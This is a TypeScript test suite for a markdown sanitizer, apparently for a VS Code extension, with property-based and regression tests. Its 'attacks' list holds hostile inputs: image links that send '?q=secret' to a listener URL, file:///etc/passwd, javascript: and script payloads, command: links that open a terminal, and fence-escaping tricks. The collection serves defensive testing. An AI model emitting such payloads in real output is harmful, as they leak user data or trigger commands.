import * as assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { sanitizeMarkdown } from '../../../src/sanitize/sanitizeMarkdown';
import { checkProperty } from '../../support/properties';

/**
 * What is neither a code block nor inline code, found in the plainest way: blocks are fenced at column 0 by backticks
 * only, and inline code begins and ends on one line. Whatever is written must be safe by this reading.
 */
function outsideCode(markdown: string): string {
  const outside: string[] = [];
  let fence = '';
  for (const line of markdown.split('\n')) {
    const run = /^`{3,}(?=[^`]*$)/.exec(line)?.[0] ?? '';
    if (fence === '' && run !== '') fence = run;
    else if (fence !== '') fence = line.startsWith(fence) ? '' : fence;
    else outside.push(line.replace(/`[^`]+`/g, 'CODE'));
  }
  assert.equal(fence, '', 'a code block is left open');
  return outside.join('\n');
}

/** Nothing that loads, runs or can be clicked is left outside code, except https addresses shown in full. */
function assertSafe(markdown: string): void {
  const text = outsideCode(markdown);
  assert.doesNotMatch(text, /[[\]`<~]/, markdown);
  assert.doesNotMatch(text.replace(/https:\/\/www\./gi, ''), /www\./i, markdown);
  assert.doesNotMatch(text, /(?<!https):\/\//i, markdown);
  for (const [address] of text.matchAll(/https:\/\/\S*/gi))
    assert.doesNotMatch(address.split('/')[2] ?? '', /[@\\%]/, markdown);
}

const listener = 'http://127.0.0.1:9/?q=secret';

const attacks: readonly string[] = [
  `![x](${listener})`,
  `![x](<${listener}>)`,
  `![x](${listener} "title")`,
  `![x]( ${listener} 'title' )`,
  `![x][ref]\n\n[ref]: ${listener}`,
  `![ref]\n\n[ref]:\n${listener}\n"title"`,
  `[![x](${listener})](https://host/)`,
  `![a[b](c)](${listener})`,
  `![x\n](${listener})`,
  `![x](\n${listener}\n)`,
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](file:///etc/passwd)',
  '![x](//host/x.png)',
  `<img src="${listener}">`,
  `<img\nsrc=${listener}>`,
  `<IMG/src=${listener}>`,
  `<video poster=${listener}></video>`,
  `<link rel=stylesheet href=${listener}>`,
  `<style>@import '${listener}';</style>`,
  `<svg><image href="${listener}"/></svg>`,
  '<script>alert(1)</script>',
  '<!-- a -->',
  '<?php x ?>',
  '<![CDATA[x]]>',
  '</div>',
  `<${listener}>`,
  '<https://user:pass@host/>',
  '<mailto:a@b.example>',
  `text[^1]\n\n[^1]: ![x](${listener})`,
  `| a | b |\n|---|---|\n| ![x](${listener}) | y |`,
  `| a |\n|---|\n| \`a | ![x](${listener})\` |`,
  `| a | b |\n|---|---|\n| \`a | b\` c \`![x](${listener})\` |`,
  `a | b\n:- | -:\n\`x | y\` | ![x](${listener})`,
  `> | a | b |\n> |---|---|\n> | \`a | ![x](${listener})\` |`,
  '[x](command:workbench.action.terminal.new)',
  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22a%22%7D)',
  '[x](vscode://publisher.extension/path)',
  '[x](javascript:alert(1))',
  '[x](https://user@host/)',
  '[x](https:\\\\host)',
  '[x](//host)',
  '[ok](https://host/)/../more@evil',
  listener,
  'www.example.com and WWW.example.com',
  'ftp://host/x and FTP://host/x',
  'a@b.example',
  'https://user:pass@host/path',
  'https://host@evil.example/',
  'https://host/a@b.example',
  'ahttps://host/',
  `https://host/?q=${'a'.repeat(300)}`,
  `https://host/${'a'.repeat(1000)}@x`,
  'https://host\\@evil.example/',
  'https://hоst.example/',
  'https://host/a"><img src=x>',
  '*https://host/*http://evil.example*',
  'https://host/`http://evil.example`',
  `\`\n![x](${listener})\n\``,
  `a \` b\nc \`![x](${listener})\` d`,
  `\`\` a \` b\n![x](${listener}) \`\``,
  `\\\`![x](${listener})\``,
  `\\\\\`a\`![x](${listener})`,
  `\`\\\`![x](${listener})\``,
  `[\`](${listener})\``,
  `\`\`\`a\`\`\`![x](${listener})`,
  `- \`\`\`\n![x](${listener})`,
  `- a\n  \`\`\`\n![x](${listener})\n  \`\`\``,
  `1. a\n   \`\`\`\n   b\n\n![x](${listener})`,
  `> \`\`\`\n![x](${listener})`,
  `> ~~~\n> a\n\n![x](${listener})`,
  `\`\`\`\na\n\`\`\`~~~\n![x](${listener})`,
  `\`\`\`\na\n\`\`\`\t\n![x](${listener})`,
  `\`\`\`\na\n\`\`\`\u{a0}\n![x](${listener})`,
  `~~~\na\n\`\`\`\n![x](${listener})\n~~~\n![x](${listener})`,
  `~~~ \`\n![x](${listener})\n~~~`,
  `\`\`\` \`\n![x](${listener})`,
  `    \`\`\`\n![x](${listener})\n    \`\`\`\n![x](${listener})`,
  `\t\`\`\`\n![x](${listener})`,
  `a\r![x](${listener})\r\n\`\`\`\rb\r![x](${listener})`,
  `a\\\n![x](${listener})`,
  `\\![x](${listener})`,
  `\\\\![x](${listener})`,
  `\\<img src=${listener}>`,
  `\\\\<img src=${listener}>`,
  `&lt;img src=x&gt; &#91;x](${listener})`,
  `$(zap) $(alert~spin)`,
  `\u{0}![x](${listener})`,
  `text\n-----\n![x](${listener})`,
  `~\`![x](${listener})~\``,
  `~~\`![x](${listener})~~\``,
  `*a \`\` b* \`![x](${listener}) \`\``,
  `*x \`\` a\`b \`\` \`c* ![x](${listener})\``,
  '~~~~~~ a',
  '- [ ] todo\n- [x] done',
];

describe('markdownSafety', () => {
  for (const attack of attacks) {
    it(`R10, R11, R14: ${JSON.stringify(attack.slice(0, 70))} is safe, whole and cut at any place`, () => {
      for (let length = 0; length <= attack.length; length += 1) assertSafe(sanitizeMarkdown(attack.slice(0, length)));
      assertSafe(sanitizeMarkdown(`Some text\n${attack}\n\nmore ${attack}`));
    });
  }

  const parts = fc.constantFrom(
    ...[
      '`',
      '``',
      '```',
      '~~~',
      '![',
      '[',
      ']',
      '](',
      ')',
      '<',
      '>',
      '<img src=',
      'http://',
      'https://',
      'h.example/',
      'www.',
      '@',
    ],
    ...[
      '\n',
      '\r',
      '\n\n',
      ' ',
      '    ',
      '\t',
      '- ',
      '1. ',
      '> ',
      '|',
      '\n|---|\n',
      '\\',
      '\\\\',
      '*',
      '_',
      '!',
      '&lt;',
      ':',
      'a',
      '\u{a0}',
    ],
  );

  it('R10: any mixture of marks is safe (property)', () => {
    checkProperty(
      fc.property(fc.array(parts, { maxLength: 30 }), (mixture) => assertSafe(sanitizeMarkdown(mixture.join('')))),
      { seed: 10, numRuns: 5_000 },
    );
  });

  it('changes nothing the second time (property)', () => {
    checkProperty(
      fc.property(fc.array(parts, { maxLength: 30 }), (mixture) => {
        const once = sanitizeMarkdown(mixture.join(''));
        assert.equal(sanitizeMarkdown(once), once);
      }),
      { seed: 44, numRuns: 5_000 },
    );
  });

  const kept = [
    'A paragraph with *emphasis*, **strong** text and a ! mark.\n\n# Heading\n\n1. one\n2. two\n   - three\n\n> quote\n\n---',
    '```ts\nconst a = b[0](c) as Array<string>; // ![x](http://host)\n```',
    'Call `list[0](x)` or `*p = &q` on `Map<string, number>`.',
    'Use `string | undefined` here.',
    '| a | b |\n|---|---|\n| `x` | `y \\| z` |',
    'See https://code.visualstudio.com/docs?a=b#c, or (https://www.example.com), https://www.npmjs.com/package/@types/node.',
    '```\nan empty line\n\nand another\n```\n\nText',
    '````md\n```ts\na\n```\n````',
    'Escaped \\*stars\\* and \\_lines\\_',
  ];
  for (const text of kept) {
    it(`need 44: leaves ${JSON.stringify(text.slice(0, 60))} as it is`, () =>
      assert.equal(sanitizeMarkdown(text), text));
  }

  const rewritten: readonly [string, string, string][] = [
    ['R12: a link becomes its text and its address', '[docs](https://host/a).', 'docs (https://host/a).'],
    ['R12: a link whose text is its address', '[https://host/](https://host/)', 'https://host/'],
    ['R12: a link to anything but https cannot be clicked', '[x](http://host/a)', 'x (http&#58;//host/a)'],
    [
      'R12: a link with a misleading text',
      '[https://good.example](https://evil.example/)',
      'https&#58;//good.example (https://evil.example/)',
    ],
    ['R14: a command link is text', '[x](command:a.b?c)', 'x (command:a.b?c)'],
    ['R10: an image becomes its text and its address', '![logo](https://host/a.png)', 'logo (https://host/a.png)'],
    ['an address in angle brackets', 'See <https://host/a>.', 'See https://host/a .'],
    ['HTML is shown as it was written', 'a <b>c</b>', 'a &lt;b>c&lt;/b>'],
    ['brackets are shown as they were written', 'a[0]', 'a&#91;0&#93;'],
    ['an unclosed block is closed', '```ts\nlet x', '```ts\nlet x\n```'],
    [
      'a block in a list moves to the margin',
      '1. Do:\n   ```ts\n   a\n     b\n   ```\n2. Done',
      '1. Do:\n\n```ts\na\n  b\n```\n2. Done',
    ],
    ['a block of tildes becomes one of backticks', '~~~py\na\n~~~', '```py\na\n```'],
    ['a block gets a fence that its text cannot close', '~~~\n```\n~~~', '````\n```\n````'],
    ['only the language is kept of what stands behind a fence', '```ts title="a"\na\n```', '```ts\na\n```'],
    ['a span that a table would cut is shown as text', '|a|\n|-|\n| `b | c` |', '|a|\n|-|\n| &#96;b | c&#96; |'],
    ['longer runs of backticks around inline code', 'use ``a[0]`` here', 'use `a[0]` here'],
    ['inline code with backticks in it is shown as text', '`` a`b ``', '&#96;&#96; a&#96;b &#96;&#96;'],
    ['text that was struck out', '~~no~~', '&#126;&#126;no&#126;&#126;'],
    ['line ends become line feeds', 'a\r\nb\rc', 'a\nb\nc'],
  ];
  for (const [name, text, expected] of rewritten) it(name, () => assert.equal(sanitizeMarkdown(text), expected));

  for (const filler of ['a', '`a` ', '[', '```\n', 'a\n']) {
    it(`R10: is never so long that the editor would cut it, as with very much of ${JSON.stringify(filler)}`, () => {
      for (const length of [99_000, 100_000, 250_000]) {
        const text = `${filler.repeat(Math.ceil(length / filler.length))}\`![x](${listener})\``;
        const shown = sanitizeMarkdown(text);
        assertSafe(shown);
        assert.ok(shown.length <= 100_000 && shown.length > 50_000);
        assert.match(shown, /\n\n…$/);
      }
    });
  }

  const repeated = [
    '[',
    ']',
    '![',
    '`',
    '` ',
    '``',
    '```\n',
    '~',
    '<',
    '\\',
    '://',
    'https://',
    'https://a/',
    '[a](',
    '[a](b) ',
    '|',
    '- ',
    '1. ',
    '@',
    '\n',
    'a',
  ];
  for (const text of repeated) {
    it(`E22: reads very much of ${JSON.stringify(text)} in no time`, () => {
      const start = performance.now();
      sanitizeMarkdown(text.repeat(Math.ceil(200_000 / text.length)));
      assert.ok(performance.now() - start < 2_000);
    });
  }

  it('E22: reads many runs of backticks of different lengths in no time', () => {
    const start = performance.now();
    sanitizeMarkdown(Array.from({ length: 1_400 }, (_, index) => '`'.repeat(index)).join(' '));
    assert.ok(performance.now() - start < 1_000);
  });
});
